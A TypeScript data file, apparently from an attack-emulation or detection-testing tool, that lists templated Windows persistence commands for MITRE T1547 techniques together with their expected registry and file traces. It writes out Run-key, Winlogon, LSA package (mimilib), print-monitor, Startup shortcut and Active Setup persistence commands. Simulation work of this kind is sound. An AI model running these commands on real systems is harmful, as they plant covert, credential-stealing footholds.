import { HKCU_RUN, HKLM_RUN, t, v } from "../dsl";

const WINLOGON = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
const LSA = "HKLM\\System\\CurrentControlSet\\Control\\Lsa";
/** Persistence, continued: event-triggered execution, autostart keys, authentication hooks, hijacks. (continued) */
export const persistence2B = [
  t(
    "T1547.001",
    "Run keys / startup folder",
    "HKCU/HKLM Run and RunOnce values via reg.exe or PowerShell, and LNK/BAT files in the Startup folder.",
    [
      v(
        "hklm-run",
        [
          {
            cmd: `reg add "${HKLM_RUN}" /v "{{name}}" /t REG_SZ /d "C:\\ProgramData\\{{rand}}\\{{name}}.exe" /f`,
            reg: [[HKLM_RUN, "{{name}}", "C:\\ProgramData\\{{rand}}\\{{name}}.exe"]],
          },
        ],
        { elevated: true },
      ),
      v(
        "set-itemproperty",
        [
          {
            ps: `Set-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name "{{name}}" -Value "powershell.exe -w hidden -ep bypass -f $env:APPDATA\\{{rand}}.ps1"`,
            reg: [[HKCU_RUN, "{{name}}", "powershell.exe -w hidden -ep bypass -f {{appdata}}\\{{rand}}.ps1"]],
          },
        ],
        { shell: "ps" },
      ),
      v("startup-folder", [
        {
          cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.bat "{{startup}}\\{{name}}.bat"',
          files: ["{{startup}}\\{{name}}.bat"],
        },
      ]),
      v(
        "runonce",
        [
          {
            cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v {{name}} /d "cmd.exe /c start C:\\Users\\Public\\{{rand}}.exe" /f',
            reg: [
              [
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
                "{{name}}",
                "cmd.exe /c start C:\\Users\\Public\\{{rand}}.exe",
              ],
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1547.002", "Authentication package", "An extra DLL added to Lsa Authentication Packages.", [
    v(
      "reg-authpkg",
      [
        {
          cmd: `reg add "${LSA}" /v "Authentication Packages" /t REG_MULTI_SZ /d "msv1_0\\0{{rand}}" /f`,
          reg: [[LSA, "Authentication Packages", "msv1_0 {{rand}}", "REG_MULTI_SZ"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1547.003", "Time providers", "A W32Time time provider DLL registered.", [
    v(
      "reg-timeprovider",
      [
        {
          cmd: 'reg add "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\{{name}}" /v DllName /t REG_SZ /d "C:\\Windows\\System32\\{{rand}}.dll" /f',
          reg: [
            [
              "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\{{name}}",
              "DllName",
              "C:\\Windows\\System32\\{{rand}}.dll",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1547.004", "Winlogon helper DLL", "Winlogon Userinit/Shell/Notify values extended with a payload.", [
    v(
      "userinit",
      [
        {
          cmd: `reg add "${WINLOGON}" /v Userinit /t REG_SZ /d "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\{{rand}}.exe" /f`,
          reg: [[WINLOGON, "Userinit", "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\{{rand}}.exe"]],
        },
      ],
      { elevated: true },
    ),
    v(
      "shell",
      [
        {
          ps: `Set-ItemProperty "HKCU:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\" "Shell" "explorer.exe, C:\\Users\\Public\\{{rand}}.exe" -Force`,
          reg: [
            [
              "HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
              "Shell",
              "explorer.exe, C:\\Users\\Public\\{{rand}}.exe",
            ],
          ],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1547.005", "Security support provider", "A DLL added to Lsa Security Packages (mimilib).", [
    v(
      "reg-secpkg",
      [
        {
          cmd: `reg add "${LSA}" /v "Security Packages" /t REG_MULTI_SZ /d "kerberos\\0msv1_0\\0schannel\\0wdigest\\0tspkg\\0pku2u\\0mimilib" /f`,
          reg: [
            [
              LSA,
              "Security Packages",
              "kerberos msv1_0 schannel wdigest tspkg pku2u mimilib",
              "REG_MULTI_SZ",
            ],
          ],
        },
        {
          cmd: "cmd.exe /c copy {{tools}}\\mimilib.dll C:\\Windows\\System32\\",
          files: ["C:\\Windows\\System32\\mimilib.dll"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1547.008", "LSASS driver", "An LSA extension/plugin DLL registered and loaded into lsass.", [
    v(
      "reg-lsa-ext",
      [
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\NTDS" /v LsaDbExtPt /t REG_SZ /d C:\\Windows\\System32\\{{rand}}.dll /f',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\NTDS",
              "LsaDbExtPt",
              "C:\\Windows\\System32\\{{rand}}.dll",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1547.009",
    "Shortcut modification",
    "A .lnk in Startup or on the desktop pointing to a payload, made with WScript.Shell.",
    [
      v(
        "wscript-shell-lnk",
        [
          {
            ps: "$s = (New-Object -ComObject WScript.Shell).CreateShortcut(\"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{{name}}.lnk\"); $s.TargetPath = 'C:\\Windows\\System32\\cmd.exe'; $s.Arguments = '/c start /min C:\\Users\\Public\\{{rand}}.exe'; $s.Save()",
            files: ["{{startup}}\\{{name}}.lnk"],
          },
        ],
        { shell: "ps" },
      ),
      v("copy-lnk", [
        {
          cmd: 'cmd.exe /c copy {{tmp}}\\{{name}}.lnk "{{startup}}\\{{name}}.lnk"',
          files: ["{{startup}}\\{{name}}.lnk"],
        },
      ]),
      // RipZip: a ZIP whose entry path ends in Startup\x.lnk.{CLSID}\x.lnk; Explorer's extraction drops the
      // shortcut into the user's Startup folder, where it runs at the next logon.
      v(
        "zip-extract-startup",
        [
          {
            by: "@explorer",
            reads: ["{{downloads}}\\{{name}}_{{n}}.zip"],
            files: ["{{startup}}\\{{name}}.lnk.{0AFACED1-E828-11D1-9187-B532F1E9575D}\\{{name}}.lnk"],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1547.010", "Port monitors", "A print monitor DLL registered under Print\\Monitors.", [
    v(
      "reg-monitor",
      [
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\{{name}}" /v "Driver" /d "{{rand}}.dll" /t REG_SZ /f',
          reg: [
            ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\{{name}}", "Driver", "{{rand}}.dll"],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1547.012",
    "Print processors",
    "A print processor DLL registered and copied into the spool directory.",
    [
      v(
        "reg-printprocessor",
        [
          {
            cmd: "cmd.exe /c copy {{tools}}\\{{rand}}.dll C:\\Windows\\System32\\spool\\prtprocs\\x64\\",
            files: ["C:\\Windows\\System32\\spool\\prtprocs\\x64\\{{rand}}.dll"],
          },
          {
            cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors\\{{name}}" /v Driver /d {{rand}}.dll /f',
            reg: [
              [
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors\\{{name}}",
                "Driver",
                "{{rand}}.dll",
              ],
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1547.014", "Active Setup", "An Active Setup StubPath that runs per user at logon.", [
    v(
      "reg-stubpath",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{{{rand2}}-1111-2222-3333-444455556666}" /v StubPath /d "C:\\ProgramData\\{{rand}}.exe" /f',
          reg: [
            [
              "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{{{rand2}}-1111-2222-3333-444455556666}",
              "StubPath",
              "C:\\ProgramData\\{{rand}}.exe",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
];
